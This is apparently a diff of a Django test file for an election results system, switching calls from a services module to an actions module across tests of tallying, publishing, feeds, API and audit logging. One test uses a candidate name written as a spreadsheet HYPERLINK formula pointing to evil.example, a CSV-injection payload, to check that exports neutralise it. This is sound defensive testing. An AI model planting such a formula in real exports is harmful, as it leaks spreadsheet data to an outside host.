@@ -9,10 +9,11 @@ import pytest
 from django.test import Client
 from django.urls import reverse
 
-from elections.models import AuditEntry, Phase
-from elections.results import services
+from audit.models import AuditEntry
+from audit.selectors import audit_chain_breaks
+from elections.models import Phase
+from elections.results import actions
 from elections.results.models import Result, ResultFileKind
-from elections.selectors import audit_chain_breaks
 
 pytestmark = pytest.mark.django_db
 
@@ -24,7 +25,7 @@ BALLOTS = ((1, 2, 3), (1, 2, 3), (1, 3, 2), (3, 1, 2))
 def tallied(polled_contest: Any, django_capture_on_commit_callbacks: Any) -> Result:
     contest = polled_contest(ballots=BALLOTS)
     with django_capture_on_commit_callbacks(execute=True):
-        services.contest_close_and_tally(contest=contest)
+        actions.contest_close_and_tally(contest=contest)
     return Result.objects.get(contest=contest)
 
 
@@ -54,7 +55,7 @@ def test_published_result_shows_winners_ranking_and_who_beats_whom(
     tallied: Result, client: Client, official: Any, django_capture_on_commit_callbacks: Any
 ) -> None:
     with django_capture_on_commit_callbacks(execute=True):
-        services.result_publish(result=tallied, actor=official)
+        actions.result_publish(result=tallied, actor=official)
     tallied.refresh_from_db()
     assert tallied.state == "published" and tallied.published_at is not None
     page = client.get(tallied.get_absolute_url()).content.decode()
@@ -79,7 +80,7 @@ def test_published_files_are_served_byte_for_byte(
 ) -> None:
     import hashlib
 
-    services.result_publish(result=tallied, actor=official)
+    actions.result_publish(result=tallied, actor=official)
     contest = tallied.contest
     for kind in ResultFileKind.values:
         response = client.get(
@@ -102,7 +103,7 @@ def test_published_files_are_served_byte_for_byte(
 def test_feeds_carry_one_item_per_result_with_a_stable_guid_and_a_date(
     tallied: Result, client: Client, official: Any
 ) -> None:
-    services.result_publish(result=tallied, actor=official)
+    actions.result_publish(result=tallied, actor=official)
     election = tallied.contest.election
     urls = [
         reverse("results_feed_rss"),
@@ -134,25 +135,25 @@ def test_feeds_carry_one_item_per_result_with_a_stable_guid_and_a_date(
 def test_unpublishing_hides_the_result_again_and_needs_a_reason(
     tallied: Result, client: Client, official: Any
 ) -> None:
-    services.result_publish(result=tallied, actor=official)
-    with pytest.raises(services.ResultError, match="reason"):
-        services.result_unpublish(result=tallied, actor=official, reason="  ")
-    services.result_unpublish(result=tallied, actor=official, reason="Wrong roll used")
+    actions.result_publish(result=tallied, actor=official)
+    with pytest.raises(actions.ResultError, match="reason"):
+        actions.result_unpublish(result=tallied, actor=official, reason="  ")
+    actions.result_unpublish(result=tallied, actor=official, reason="Wrong roll used")
     tallied.refresh_from_db()
     assert tallied.state == "draft" and tallied.unpublish_reason == "Wrong roll used"
     assert client.get(tallied.get_absolute_url()).status_code == 404
     assert feedparser.parse(client.get(reverse("results_feed_rss")).content).entries == []
     assert client.get(reverse("api_results")).json()["results"] == []
-    actions = list(
+    recorded = list(
         AuditEntry.objects.filter(target=f"result:{tallied.pk}").values_list("action", flat=True)
     )
-    assert {"result.tally", "result.publish", "result.unpublish"} <= set(actions)
+    assert {"result.tally", "result.publish", "result.unpublish"} <= set(recorded)
 
 
 def test_api_lists_elections_contests_candidates_results_and_turnout(
     tallied: Result, client: Client, official: Any
 ) -> None:
-    services.result_publish(result=tallied, actor=official)
+    actions.result_publish(result=tallied, actor=official)
     contest = tallied.contest
     election = contest.election
     index = client.get(reverse("api_index")).json()
@@ -248,7 +249,7 @@ def test_the_count_is_rendered_once_then_read_from_the_cache(
     draft = reviewer.get(tallied.get_absolute_url()).content.decode()
     assert "Draft, not public" in draft and "beats by 2" in draft
     with django_capture_on_commit_callbacks(execute=True):
-        services.result_publish(result=tallied, actor=official)
+        actions.result_publish(result=tallied, actor=official)
     with CaptureQueriesContext(connection) as first:
         page = client.get(tallied.get_absolute_url()).content.decode()
     # Published now, and the count the official's visit rendered is the one shown.
@@ -272,10 +273,10 @@ def test_each_result_shows_its_own_count_from_the_cache(
     for ballots in (BALLOTS, ((3, 2, 1),) * 5):
         contest = polled_contest(ballots=ballots)
         with django_capture_on_commit_callbacks(execute=True):
-            services.contest_close_and_tally(contest=contest)
+            actions.contest_close_and_tally(contest=contest)
         result = Result.objects.get(contest=contest)
         with django_capture_on_commit_callbacks(execute=True):
-            services.result_publish(result=result, actor=official)
+            actions.result_publish(result=result, actor=official)
         pages.append(client.get(result.get_absolute_url()).content.decode())
     assert "4 ballots counted" in pages[0] and "5 ballots counted" in pages[1]
 
@@ -288,10 +289,10 @@ def test_a_candidate_named_like_a_formula_is_text_in_the_ballot_file(
     formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
     contest = polled_contest(candidates=(formula, "Bob Baker", "Carol Cook"))
     with django_capture_on_commit_callbacks(execute=True):
-        services.contest_close_and_tally(contest=contest)
+        actions.contest_close_and_tally(contest=contest)
     result = Result.objects.get(contest=contest)
     with django_capture_on_commit_callbacks(execute=True):
-        services.result_publish(result=result, actor=official)
+        actions.result_publish(result=result, actor=official)
     url = reverse("results_file", args=[contest.election.slug, contest.slug, "ballots_csv"])
     header = client.get(url).content.decode().splitlines()[0]
     # A spreadsheet opening the download shows the name; it does not run it.
